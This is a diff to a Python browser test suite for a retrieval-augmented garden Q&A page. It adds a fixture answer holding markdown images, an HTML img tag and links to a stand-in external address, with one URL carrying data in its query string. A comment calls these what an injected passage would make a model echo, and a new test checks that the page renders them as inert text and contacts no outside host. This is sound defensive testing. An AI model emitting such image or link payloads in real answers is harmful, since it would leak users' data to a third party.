@@ -39,6 +39,13 @@ FACTS = {  # question word -> (text of the passage to cite, the answer citing it
     "tomato": ("9 am", "Water the tomato beds every morning before 9 am [{n}]."),
     "closed": ("Mondays", "The tool shed is closed on Mondays [{n}]."),
     "hives": ("Friday", "The bee team checks the hives every Friday [{n}]."),
+    # What an injected passage would make a model echo, to send the user's data elsewhere.
+    "status": (
+        "Mondays",
+        "The tool shed is closed on Mondays [{n}]. ![status](http://203.0.113.7/p.png?d=shed) "
+        '<img src="http://203.0.113.7/q.png"> [details](http://203.0.113.7/more) '
+        "<http://203.0.113.7/auto>",
+    ),
 }
 
 
@@ -161,6 +168,17 @@ def test_question_streams_an_answer_with_its_sources(page: Any) -> None:
     assert "every morning before 9 am" in source.locator(".rag-passage").inner_text()
     hosts = {urlparse(url).hostname for url in page.requested if url.startswith("http")}
     assert hosts == {"127.0.0.1"}, f"the page loaded something from elsewhere: {hosts}"
+
+
+def test_an_answer_with_remote_images_and_links_loads_and_links_nothing(page: Any) -> None:
+    answer = ask(page, "What is the status of the tool shed?", answers=1)
+    shown = answer.inner_text().strip()
+    assert shown.startswith("The tool shed is closed on Mondays [1].")
+    assert "![status](http://203.0.113.7/p.png?d=shed)" in shown  # shown as text
+    assert '<img src="http://203.0.113.7/q.png">' in shown
+    assert answer.locator("img, a, iframe").count() == 0
+    hosts = {urlparse(url).hostname for url in page.requested if url.startswith("http")}
+    assert hosts == {"127.0.0.1"}, f"the answer made the page request: {hosts}"
 
 
 def test_follow_up_and_abstention_keep_the_conversation(page: Any) -> None:
